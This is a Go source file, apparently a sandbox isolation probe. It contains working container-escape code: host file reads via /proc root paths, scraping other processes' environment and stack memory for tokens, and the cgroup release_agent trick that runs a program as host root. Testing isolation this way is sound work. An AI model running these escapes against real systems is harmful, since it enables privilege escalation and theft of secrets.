package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// hostFile looks for a file of the host's by every way that a path can take.
func hostFile(args []string) (string, error) {
	up := strings.Repeat("/..", 12)
	ways := []string{"", "/proc/1/root", "/proc/1/cwd" + up, "/proc/self/root" + up, "/proc/self/cwd" + up, "/data/rw" + up, "/dev/fd/0" + up}
	more, err := filepath.Glob("/proc/[0-9]*/root")
	if err != nil {
		return "", err
	}
	for _, w := range append(ways, more...) {
		if b, err := os.ReadFile(w + args[0]); err == nil {
			return string(b), nil
		}
	}
	return "", errNothing
}

// foreignMemory looks for a token in the memory of other kits: their
// environment, and what their stacks hold.
func foreignMemory(args []string) (string, error) {
	dirs, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return "", err
	}
	for _, d := range dirs {
		line, err := os.ReadFile(d + "/cmdline")
		if err != nil || !strings.HasPrefix(string(line), "/kit") || filepath.Base(d) == strconv.Itoa(os.Getpid()) {
			continue
		}
		if b, err := os.ReadFile(d + "/environ"); err == nil && bytes.Contains(b, []byte(args[0])) {
			return "environment of " + d, nil
		}
		if bytes.Contains(stackOf(d), []byte(args[0])) {
			return "stack of " + d, nil
		}
	}
	return "", errNothing
}

func stackOf(proc string) []byte {
	maps, err := os.ReadFile(proc + "/maps")
	if err != nil {
		return nil
	}
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if !strings.Contains(line, "[stack]") {
			continue
		}
		if n, _ := fmt.Sscanf(line, "%x-%x", &from, &to); n != 2 {
			continue
		}
		f, err := os.Open(proc + "/mem")
		if err != nil {
			return nil
		}
		defer f.Close()
		b := make([]byte, to-from)
		n, _ := f.ReadAt(b, from)
		return b[:n]
	}
	return nil
}

func sysctl([]string) (string, error) {
	const p = "/proc/sys/net/ipv4/ip_default_ttl" // of the own network namespace
	if err := os.WriteFile(p, []byte("63"), 0); err != nil {
		return "", err
	}
	b, err := os.ReadFile(p)
	if err == nil && string(bytes.TrimSpace(b)) != "63" {
		err = errNothing
	}
	return "", err
}

// corePattern only opens it: its content is the whole host's.
func corePattern([]string) (string, error) {
	f, err := os.OpenFile("/proc/sys/kernel/core_pattern", os.O_WRONLY, 0)
	if err != nil {
		return "", err
	}
	return "", f.Close()
}

// releaseAgent has the host's kernel run a program as the host's root, by a
// cgroup hierarchy of its own making.
func releaseAgent(args []string) (out string, err error) {
	const dir = "/tmp/hierarchy"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	if err := syscall.Mount("none", dir, "cgroup", 0, "none,name=sandboxd-kit"); err != nil {
		return "", err
	}
	defer func() { err = errors.Join(err, syscall.Unmount(dir, 0)) }()
	group := dir + "/group"
	child := exec.Command("/kit", "sleep")
	if err := errors.Join(os.WriteFile(dir+"/release_agent", []byte(args[0]), 0), os.Mkdir(group, 0o755),
		os.WriteFile(group+"/notify_on_release", []byte("1"), 0), child.Start()); err != nil {
		return "", err
	}
	defer func() { err = errors.Join(err, os.Remove(group)) }()
	err = os.WriteFile(group+"/cgroup.procs", []byte(strconv.Itoa(child.Process.Pid)), 0)
	_ = child.Process.Kill()
	_ = child.Wait()
	if err != nil {
		return "", err
	}
	for range 100 { // the kernel's helper is nobody's child here
		if _, err := os.Stat(args[1]); err == nil {
			return "ran", nil
		}
		time.Sleep(20 * time.Millisecond)
	}
	return "armed", nil
}

// ownCgroup raises the own limits, by whatever of the cgroup's it can see.
func ownCgroup([]string) (string, error) {
	const dir = "/tmp/limits"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	if err := syscall.Mount("none", dir, "cgroup", 0, "pids"); err != nil {
		return "", err
	}
	return "", syscall.Unmount(dir, 0)
}
